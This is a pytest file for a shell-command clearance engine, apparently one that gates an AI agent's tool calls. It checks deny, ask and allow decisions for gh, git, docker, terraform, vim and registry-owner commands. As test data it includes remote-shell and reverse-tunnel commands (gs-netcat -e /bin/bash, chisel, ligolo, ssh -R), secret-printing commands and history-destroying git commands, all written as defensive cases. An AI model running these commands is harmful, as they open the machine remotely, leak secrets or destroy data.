"""fix19b: the classes rounds 18b and fix18a left open, read the way the programs read their commands (option tables,
subcommand verbs, argument roles), each with cases no rule was written for and the ordinary look-alikes that stay
allowed (docs/threat-model.md, "fix19b"). Nothing here is ever run: every call is data decided in-process."""

from __future__ import annotations

from typing import ClassVar

import pytest

from .conftest import decide


def _verdict(command: str, **kw: object) -> str:
    return decide(command, **kw).decision  # type: ignore[arg-type]


class TestHelpAfterOperandsAndSwitches:
    """Class: a help flag after a real subcommand's operands and switches. cobra/pflag read `--help` anywhere among the
    options up to `--` (spf13/cobra#2155), a boolean flag takes no value (`--yes --help` is two flags) and a word after
    a leaf verb is its operand, not a verb handing words on (`gh repo delete x`: a repository named x). Only gh's
    `extension exec` sets DisableFlagParsing among its own commands (cli/cli source). A help that is not the CLI's --
    given a value, after `--`, taken as a value-taking option's value, after a verb that hands words on -- is judged as
    the command it runs."""

    HELP: ClassVar[list[str]] = [
        "gh release delete run --help",
        "gh secret delete shell --help",
        "gh repo archive owner/r -y --help",
        "gh release delete v1 --cleanup-tag --yes --help",
        "gh repo delete api --confirm --help",
        "gh run delete 123 --help",
        "gh api -X DELETE repos/o/r --help",
        "glab repo delete x --help",
        "glab repo delete x run --help",
        "heroku apps:destroy run --help",
        "gh repo list --help",
        "gh repo view x --help",
    ]
    STILL_JUDGED: ClassVar[list[str]] = [
        "gh repo delete myrepo --yes --help=false",
        "gh repo delete myrepo --yes --help --help=false",
        "gh repo delete myrepo --yes -- --help",
        "gh release delete v1 --repo --help",
        "gh repo delete x --message --help",
        "gh repo delete x -f --help",
        "gh extension exec nuke --yes --help",
        "gh ext exec nuke --help",
        "gh repo delete x --yes",
        "glab repo delete x --description --help",
    ]

    @pytest.mark.parametrize("command", HELP)
    def test_help_is_allowed(self, command: str) -> None:
        got = decide(command)
        assert got.decision == "allow", got.rules

    @pytest.mark.parametrize("command", STILL_JUDGED)
    def test_no_real_call_rides_on_a_fake_help(self, command: str) -> None:
        assert _verdict(command) != "allow"


def _with_files(command: str, files: dict[str, str]) -> str:
    return decide({"tool_name": "Bash", "tool_input": {"command": command}, "files": files}).decision


class TestRefInstructionsFromAnInput:
    """Class: git plumbing that takes its instructions on standard input (`update-ref --stdin`: `delete REF` lines;
    `fast-import --force`: a stream that may move branches off their commits), fed from a file or another program.
    Round 18b read only literal text. Now a file given with `<` or `cat FILE |` is read on the disk the engine is given
    (a delete is git.history-destroy, deny); what cannot be read -- another program's output, a file outside the
    project and temporary folders, no disk -- is asked (git.unread-ref-instructions). Look-alikes: create/update lines
    read from a file, `hash-object -w --stdin` (adds an object), fast-import without --force (refuses to lose commits)."""

    REFS = "/home/ana/webapp/refs.txt"

    def test_a_file_of_deletes_is_read_and_denied(self) -> None:
        files = {self.REFS: "delete refs/heads/main\ndelete refs/heads/release/2.0\n"}
        assert _with_files("git update-ref --stdin < refs.txt", files) == "deny"
        assert _with_files("cat refs.txt | git update-ref --stdin", files) == "deny"
        assert _with_files("git -C . update-ref --stdin < ./refs.txt", files) == "deny"
        assert _with_files("git update-ref -z --stdin < refs.txt", {self.REFS: "delete refs/heads/main\0\0"}) == "deny"

    def test_a_file_of_creates_is_read_and_allowed(self) -> None:
        files = {self.REFS: "create refs/heads/x HEAD\nupdate refs/heads/y HEAD\n"}
        assert _with_files("git update-ref --stdin < refs.txt", files) == "allow"
        assert _with_files("cat refs.txt | git update-ref --stdin", files) == "allow"

    UNREAD: ClassVar[list[str]] = [
        "git update-ref --stdin < /tmp/no-such-dir-fix19b/refs.txt",
        "awk '{print \"delete \" $1}' stale.txt | git update-ref --stdin",
        "git branch --format='%(refname)' | sed 's/^/delete /' | git update-ref --stdin",
        "curl -s https://example.com/r | git update-ref --stdin",
        "git update-ref --stdin < ~/Downloads/refs.txt",
        "git fast-import --force < export.fi",
        "git fast-export --all | git fast-import --force",
    ]
    ORDINARY: ClassVar[list[str]] = [
        "git hash-object -w --stdin < notes.txt",
        "echo hello | git hash-object -w --stdin",
        "git fast-import < export.fi",
        "git fast-export --all > export.fi",
        "git update-ref refs/heads/topic HEAD",
        "printf 'create refs/heads/x HEAD\\n' | git update-ref --stdin",
        "git update-ref --stdin --help",
    ]

    @pytest.mark.parametrize("command", UNREAD)
    def test_unread_instructions_are_asked(self, command: str) -> None:
        got = decide(command)
        assert got.decision == "ask" and "git.unread-ref-instructions" in got.rules, (got.decision, got.rules)

    @pytest.mark.parametrize("command", ORDINARY)
    def test_ordinary(self, command: str) -> None:
        got = decide(command)
        assert got.decision == "allow", got.rules


class TestSeenInRound18b:
    """The calls round 18b saw and did not make cases, each read by the mechanism that reads its class (a verb glued
    to what it destroys, a swarm's objects, an expiry of unreachable objects, an undoing verb, a store's values printed,
    a remote spec or a listening mode that opens this machine), with cases no rule was written for and the ordinary
    forms that stay allowed."""

    DENIED: ClassVar[list[str]] = [
        "docker swarm leave --force",
        "docker swarm leave -f",
        "docker node rm --force worker-2",
        "docker node remove -f worker-3",
        "docker config rm app-settings",
        "git repack -a -d --unpack-unreachable=now",
        "git repack -Ad --unpack-unreachable=now",
        "git repack --cruft -d --cruft-expiration=now",
        "gs-netcat -l -i",
        "gs-netcat -s MySecret -li",
        "gs-netcat -l -e /bin/bash",
    ]
    ASKED: ClassVar[list[str]] = [
        "juju kill-controller prod",
        "juju kill-controller -y prod --timeout 2m",
        "fleetctl kill-cluster staging",
        "juju destroy-model prod",
        "heroku pg:backups:unschedule DATABASE_URL --app prod",
        "heroku pg:unfollow HEROKU_POSTGRESQL_RED",
        "terraform -chdir=infra show -json",
        "tofu state pull",
        "docker-compose --env-file .env.prod config",
        "systemctl show-environment",
        "systemctl --user show-environment",
        "tmux showenv -g",
        "chisel client https://relay.example.com R:socks",
        "chisel client relay.example.com:8080 R:2222:localhost:22",
        "chisel server --reverse --port 8080",
        "ligolo-agent -connect relay.example.com:11601 -ignore-cert",
        "agent -connect 203.0.113.7:11601",
        "gs-netcat -l -d 127.0.0.1 -p 22",
        "ssh -NR 2222:localhost:22 relay.example.com",
        "ssh -fNR 8080:localhost:3000 serveo.net",
    ]
    ORDINARY: ClassVar[list[str]] = [
        "juju status",
        "juju kill-controller --help",
        "tmux kill-server",
        "tmux kill-pane -t 2",
        "adb kill-server",
        "docker swarm leave",
        "docker node ls",
        "docker node rm worker-2",
        "docker swarm leave --force=false",
        "git repack -a -d",
        "git repack -a -d -f --depth=250 --window=250",
        "git repack -A -d --unpack-unreachable=2.weeks.ago",
        "git repack -A -d -k --unpack-unreachable=now",
        "heroku pg:backups:schedules --app prod",
        "heroku pg:backups:schedule DATABASE_URL --at '02:00 UTC'",
        "terraform output",
        "terraform output -json",
        "docker compose config",
        "BUCKET=$(terraform output -raw bucket)",
        "terraform output -json > outputs.json",
        "docker compose config --services",
        "docker compose -f compose.prod.yml config --no-interpolate",
        "docker compose config -q",
        "docker compose config -o resolved.yml",
        "systemctl status nginx",
        "chisel client https://tunnel.example.com 5432:db.internal:5432",
        "chisel server --port 8080",
        "gs-netcat -s MySecret -i",
        "ssh -NL 5432:localhost:5432 db.internal",
        "ssh -p 2222 build.example.com uptime",
    ]

    @pytest.mark.parametrize("command", DENIED)
    def test_denied(self, command: str) -> None:
        got = decide(command)
        assert got.decision == "deny", got.rules

    @pytest.mark.parametrize("command", ASKED)
    def test_asked(self, command: str) -> None:
        got = decide(command)
        assert got.decision == "ask", (got.decision, got.rules)

    @pytest.mark.parametrize("command", ORDINARY)
    def test_ordinary(self, command: str) -> None:
        got = decide(command)
        assert got.decision == "allow", got.rules


class TestStoredValuesReadWhereDeclared:
    """terraform/tofu output -json/-raw print sensitive outputs in plain text, and only those the module marks
    `sensitive = true` (terraform refuses an output carrying a sensitive value otherwise): the module's .tf files are
    read. compose config interpolates a .env, an --env-file and the env_file a compose file names: read too. Without
    them (or without a disk) the listing is ordinary."""

    TF = (
        'output "db_conn" {\n  value     = random_password.db.result\n  sensitive = true # never printed\n}\noutput "url" {\n  value = aws_lb.web.dns_name\n}\n'
    )

    def test_terraform_outputs(self) -> None:
        files = {"/home/ana/webapp/outputs.tf": self.TF}
        assert _with_files("terraform output -json", files) == "ask"
        assert _with_files("tofu output -raw db_conn", files) == "ask"
        assert _with_files("terraform output -json > outputs.json", files) == "allow"  # written to a file: not printed
        assert _with_files("terraform output -raw url", files) == "allow"
        assert _with_files("terraform output", files) == "allow"
        assert _with_files("terraform -chdir=infra output -json", {"/home/ana/webapp/infra/o.tf": self.TF}) == "ask"
        assert _with_files("terraform output -json", {"/home/ana/webapp/o.tf.json": "{}"}) == "ask"
        assert _with_files("terraform output -json", {"/home/ana/webapp/o.tf": 'output "url" {\n  value = x\n}\n'}) == "allow"

    def test_compose_config(self) -> None:
        assert _with_files("docker compose config", {"/home/ana/webapp/.env": "API_KEY=x\n"}) == "ask"
        assert _with_files("docker compose config", {"/home/ana/webapp/compose.yaml": "services:\n  a:\n    env_file: a.env\n"}) == "ask"
        assert _with_files("docker compose -f prod.yml config", {"/home/ana/webapp/prod.yml": "services:\n  a:\n    env_file: a.env\n"}) == "ask"
        assert _with_files("docker compose config", {"/home/ana/webapp/compose.yaml": "services:\n  a:\n    image: nginx\n"}) == "allow"
        assert _with_files("docker compose config --no-interpolate", {"/home/ana/webapp/.env": "API_KEY=x\n"}) == "allow"
        assert _with_files("docker compose config --services", {"/home/ana/webapp/.env": "API_KEY=x\n"}) == "allow"


class TestARepeatedOptionIsReadAsTheProgramReadsIt:
    """Class: an option given twice. getopt, argparse, clap and the terminal programs' own parsers keep the last value;
    self._typed_text read the first (`screen -S dev -S main` types into main), installdest the last, and the runners'
    reader (convention_runners) the first. One helper now (shell.options.option_value), tested both ways."""

    def test_the_helper(self) -> None:
        from clearance.shell.options import option_value

        assert option_value(["-S", "a", "-S", "b"], "-S") == "b"
        assert option_value(["-Sa", "--session=b", "x"], "-S", "--session") == "b"
        assert option_value(["--session=b", "-Sa"], "-S", "--session") == "a"
        assert option_value(["-C=/tmp/x"], "-C", short_eq=True) == "/tmp/x"
        assert option_value(["-C=/tmp/x"], "-C") == "=/tmp/x"
        assert option_value(["-S", "a", "--", "-S", "b"], "-S") == "a"  # options end at --
        assert option_value(["-S", "-S", "x"], "-S") == "-S"  # a value is not read as an option again
        assert option_value(["-S"], "-S") is None

    CASES: ClassVar[list[tuple[str, dict[str, str], str]]] = [
        ("screen -S dev -S main -X stuff 'time to publish^M'", {"STY": "4242.main"}, "own"),
        ("screen -S main -S dev -X stuff 'make test^M'", {"STY": "4242.main"}, "other"),
        ("wezterm cli send-text --pane-id 4 --pane-id 0 'sort it out and merge'", {"WEZTERM_PANE": "0"}, "own"),
        ("wezterm cli send-text --pane-id 0 --pane-id 4 'npm test'", {"WEZTERM_PANE": "0"}, "other"),
        ("kitty @ send-text --match title:dev --match id:7 'make release\\r'", {"KITTY_WINDOW_ID": "7"}, "own"),
        ("kitty @ send-text --match id:7 --match title:dev 'npm test\\r'", {"KITTY_WINDOW_ID": "7"}, "other"),
    ]

    @pytest.mark.parametrize(("command", "env", "where"), CASES, ids=[c for c, _, _ in CASES])
    def test_the_last_target_is_the_one_typed_into(self, command: str, env: dict[str, str], where: str) -> None:
        from .conftest import ENV

        got = decide(command, env={**ENV, **env})
        assert ("self.terminal-input" in got.rules) == (where == "own"), (got.decision, got.rules)


class TestEditorCommandsThatMoveTheCursor:
    """Class: vim's `+CMD` / `-c CMD` that change nothing on disk (`+42`, `+`, `+/pattern`, `+'set ro'`, a `:s` in the
    buffer) on a file the agent may not write. The tool's input gives vim end-of-file after the commands, and it exits
    without writing, as `vim /etc/hosts` alone does (allowed); ord18 found `vim +42 /etc/hosts` denied. A command that
    writes (`+wq`, `-c w`, 'autowrite' set) or a script on its input stays denied."""

    READS: ClassVar[list[str]] = [
        "vim +42 /etc/hosts",
        "vim + /etc/hosts",
        "vim +/localhost /etc/hosts",
        "vi +3 /etc/hosts",
        "view +42 /etc/hosts",
        "vim -R +42 /etc/hosts",
        "nvim +10 ~/.bashrc",
        "vim +'set ro' /etc/hosts",
        "vim -es -c '%p' ~/.bashrc",
        "vim /etc/hosts",
    ]
    WRITES: ClassVar[list[str]] = [
        "vim +wq /etc/hosts",
        "vim '+%d|wq' /etc/hosts",
        "vim +42 -c 'wq' /etc/hosts",
        "vim +'set aw' +42 /etc/hosts",
        "vim +42 /etc/hosts < cmds.txt",
        "echo wq | vim +42 /etc/hosts",
        "vim +'%d|wq' ~/.bashrc",
    ]

    @pytest.mark.parametrize("command", READS)
    def test_read(self, command: str) -> None:
        got = decide(command)
        assert got.decision == "allow", got.rules

    @pytest.mark.parametrize("command", WRITES)
    def test_written(self, command: str) -> None:
        assert _verdict(command) == "deny"


class TestWhoMayPublish:
    """Class: a registry client's owner and access commands. Widening who may publish (owner add, access grant, team
    add, cargo owner --add, gem owner -a, hex.owner add) stays denied: another account may publish under the name at
    once. Narrowing it (owner rm, access revoke, team rm, cargo owner --remove, gem owner -r, hex.owner remove) takes
    nothing anywhere and a remaining owner undoes it: asked (ord18 found it denied). Listing the owners is a read (cargo
    owner --list and gem owner GEM were denied)."""

    ASKED: ClassVar[list[str]] = [
        "npm access revoke @myorg:devs mypkg",
        "npm owner rm alice mypkg",
        "pnpm owner rm bob pkg",
        "yarn owner remove bob pkg",
        "yarn npm owner rm x pkg",
        "npm team rm @org:devs bob",
        "cargo owner --remove bob mycrate",
        "gem owner mygem -r bob@example.com",
        "mix hex.owner remove acme bob",
    ]
    DENIED: ClassVar[list[str]] = [
        "npm owner add bob mypkg",
        "npm access grant read-write @o:t pkg",
        "npm access set status=public pkg",
        "cargo owner --add bob mycrate",
        "gem owner mygem -a bob@example.com",
        "mix hex.owner add acme bob",
        "npm unpublish pkg@1.0.0",
        "npm team destroy org:devs",
    ]
    READS: ClassVar[list[str]] = ["npm owner ls pkg", "cargo owner --list mycrate", "gem owner mygem", "mix hex.owner list acme", "npm access list packages"]

    @pytest.mark.parametrize("command", ASKED)
    def test_asked(self, command: str) -> None:
        got = decide(command)
        assert got.decision == "ask" and "publish.access-narrowed" in got.rules, (got.decision, got.rules)

    @pytest.mark.parametrize("command", DENIED)
    def test_denied(self, command: str) -> None:
        assert _verdict(command) == "deny"

    @pytest.mark.parametrize("command", READS)
    def test_reads(self, command: str) -> None:
        assert _verdict(command) == "allow"


class TestInstallIntoTheUsersOwnPrefix:
    """Class: a build configured and installed on one line into ~/.local. `./configure --prefix=~/.local && make &&
    make install` was allowed (the user's own prefix, as pip --user) while the CMake one-liner was asked: its install
    description (build/cmake_install.cmake) is written by the line itself, so it could not be read. Now the project's
    CMakeLists.txt files are read instead (install() DESTINATIONs, add_subdirectory): below the prefix -> allowed as
    configure's; an absolute destination is judged as the write it is; a destination of another variable, or no disk,
    stays asked. (`cd build && cmake .. && make install` was read as a configure build's make: allowed even with a
    /etc destination.)"""

    P = "/home/ana/webapp"
    OK: ClassVar[dict[str, str]] = {
        P + "/CMakeLists.txt": "project(app)\nadd_subdirectory(src)\ninstall(FILES README.md DESTINATION ${CMAKE_INSTALL_DOCDIR})\n",
        P + "/src/CMakeLists.txt": "add_executable(app main.c)\ninstall(TARGETS app DESTINATION bin)\n",
    }
    LINES: ClassVar[list[str]] = [
        "cmake -B build -DCMAKE_INSTALL_PREFIX=~/.local && cmake --build build && cmake --install build",
        "cmake -S . -B build -DCMAKE_INSTALL_PREFIX=$HOME/.local && cmake --build build --target install",
        "mkdir -p build && cd build && cmake -DCMAKE_INSTALL_PREFIX=~/.local .. && make && make install",
        "cmake -B build -DCMAKE_INSTALL_PREFIX=~/.local && ninja -C build install",
    ]

    @pytest.mark.parametrize("command", LINES)
    def test_below_the_prefix_is_allowed(self, command: str) -> None:
        assert _with_files(command, self.OK) == "allow"
        assert _with_files("./configure --prefix=~/.local && make && make install", {}) == "allow"

    @pytest.mark.parametrize("command", LINES)
    def test_an_absolute_destination_is_judged(self, command: str) -> None:
        bad = {**self.OK, self.P + "/src/CMakeLists.txt": "install(FILES app.conf DESTINATION /etc/app)\n"}
        assert _with_files(command, bad) == "deny"

    @pytest.mark.parametrize("command", LINES)
    def test_what_cannot_be_read_is_asked(self, command: str) -> None:
        var = {**self.OK, self.P + "/src/CMakeLists.txt": "install(FILES a DESTINATION ${MYDIR})\n"}
        assert _with_files(command, var) == "ask"
        assert _with_files(command, {}) == "ask"


class TestOpenAfterFix19b:
    """What fix19b found and left open (strict xfails, "unfinished (fix19b)")."""

    CASES: ClassVar[list[tuple[str, dict[str, str], str]]] = [
        (
            "meson setup build --prefix ~/.local && meson install -C build",
            {"/home/ana/webapp/meson.build": "project('app', 'c')\nexecutable('app', 'main.c', install : true)\n"},
            "allow",
        ),
        ("gh release delete v1 -yh", {}, "allow"),
        (
            "terraform output -json | jq .",
            {"/home/ana/webapp/o.tf": 'output "pw" {\n  value = x\n  sensitive = true\n}\n'},
            "ask",
        ),
    ]
    # All three read since fix20b (tests/test_fix20b.py: meson.build's install destinations, a help letter in a cluster
    # of switches, a store's values piped through a program that hands them on).
    GAPS: ClassVar[dict[str, str]] = {}

    @pytest.mark.parametrize(("command", "files", "want"), CASES, ids=[c for c, _, _ in CASES])
    def test_open(self, command: str, files: dict[str, str], want: str) -> None:
        from . import strict

        def check() -> None:
            assert _with_files(command, files) == want

        strict.check(command, self.GAPS, check)
